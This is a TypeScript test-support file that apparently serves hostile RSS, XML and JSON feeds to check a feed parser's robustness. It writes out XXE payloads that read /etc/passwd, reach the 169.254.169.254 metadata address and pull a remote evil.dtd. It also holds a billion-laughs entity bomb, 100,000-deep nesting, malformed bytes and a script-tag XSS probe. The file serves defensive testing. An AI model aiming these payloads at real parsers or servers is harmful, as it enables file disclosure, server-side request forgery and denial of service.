import type { IncomingMessage, ServerResponse } from 'node:http';

/**
 * Hostile feed documents served by routes added to tests/support/hostile-server.ts. Each is what a compromised or
 * malicious outlet could publish; none may expand, hang, crash the batch, or leak into output as live markup.
 */
const RSS = 'application/rss+xml; charset=utf-8';
type Route = (req: IncomingMessage, res: ServerResponse) => void;
const serve =
  (body: string | Buffer, type = RSS): Route =>
  (_req, res) => {
    res.writeHead(200, { 'content-type': type }).end(body);
  };

const rssWith = (items: string, head = '') =>
  `<?xml version="1.0" encoding="utf-8"?>${head}<rss version="2.0"><channel><title>Hostile</title>` +
  `<link>https://hostile.example/</link><description>d</description>${items}</channel></rss>`;

export const CONTROL_FEED = rssWith(
  ['alpha', 'beta', 'gamma']
    .map(
      (word) =>
        `<item><title>Control story ${word}</title><link>https://control.example/${word}</link>` +
        `<guid>control-${word}</guid><pubDate>Tue, 24 Nov 2026 10:00:00 GMT</pubDate></item>`,
    )
    .join(''),
);

const laughs = (() => {
  const levels = ['<!ENTITY l0 "lol">'];
  for (let i = 1; i <= 10; i++) levels.push(`<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`);
  return `<!DOCTYPE rss [${levels.join('')}]>`;
})();

const item = (title: string, extra = '') =>
  `<item><title>${title}</title><link>https://hostile.example/${encodeURIComponent(title.slice(0, 20))}</link>` +
  `<pubDate>Tue, 24 Nov 2026 09:00:00 GMT</pubDate>${extra}</item>`;

/** Raw bytes: valid UTF-8 around invalid sequences (lone continuation, overlong, surrogate, truncated). */
const invalidUtf8 = Buffer.concat([
  Buffer.from(rssWith('').split('</channel>')[0]!),
  Buffer.from('<item><title>Bad bytes '),
  Buffer.from([0xc3, 0x28, 0x20, 0xc0, 0xaf, 0x20, 0xed, 0xa0, 0x80, 0x20, 0xff, 0xfe, 0x20, 0xe2, 0x82]),
  Buffer.from(' end</title><link>https://hostile.example/utf8</link></item></channel></rss>'),
]);

/** Raw C0 controls and character references to code points XML 1.0 forbids. */
const controlChars = Buffer.concat([
  Buffer.from(rssWith('').split('</channel>')[0]!),
  Buffer.from('<item><title>Ctl\u0000nul\u0001soh\u001b[31mesc\u0008bs&#0;&#x1B;&#xFFFE;&#xD800; end</title>'),
  Buffer.from('<description>body\u0000\u0007&#x0;&#11;</description>'),
  Buffer.from('<link>https://hostile.example/ctl</link></item></channel></rss>'),
]);

export const HOSTILE_ROUTES: Record<string, Route> = {
  '/control.xml': serve(CONTROL_FEED),
  '/xxe-file': serve(
    rssWith(item('XXE &xxe; marker'), '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>').replace(
      '<title>Hostile</title>',
      '<title>&xxe;</title>',
    ),
  ),
  '/xxe-http': serve(rssWith(item('XXE &xxe; net'), '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "http://169.254.169.254/">]>')),
  '/xxe-parameter': serve(
    rssWith(item('XXE param'), '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://10.0.0.1/evil.dtd"> %p;]>'),
  ),
  '/billion-laughs': serve(rssWith(item('Laughs &l10;'), laughs)),
  '/deep-xml': serve(rssWith(`${'<x>'.repeat(100_000)}${'</x>'.repeat(100_000)}${item('Deep survivor')}`)),
  '/deep-xml-unclosed': serve(rssWith(item('Deep unclosed', `<description>${'<div>'.repeat(100_000)}</description>`))),
  '/deep-json': serve(
    `{"version":"https://jsonfeed.org/version/1.1","title":"deep","items":[{"id":"1","url":"https://hostile.example/j",` +
      `"title":"Deep JSON","content_text":"x","_ext":${'['.repeat(100_000)}${']'.repeat(100_000)}}]}`,
    'application/feed+json',
  ),
  '/invalid-utf8': serve(invalidUtf8),
  '/control-chars': serve(controlChars),
  // The error message for this one quotes the root element's name: it must reach the HTML page escaped.
  '/root-script': serve('<?xml version="1.0"?><script>alert("XSS-root")</script>', 'application/xml'),
};
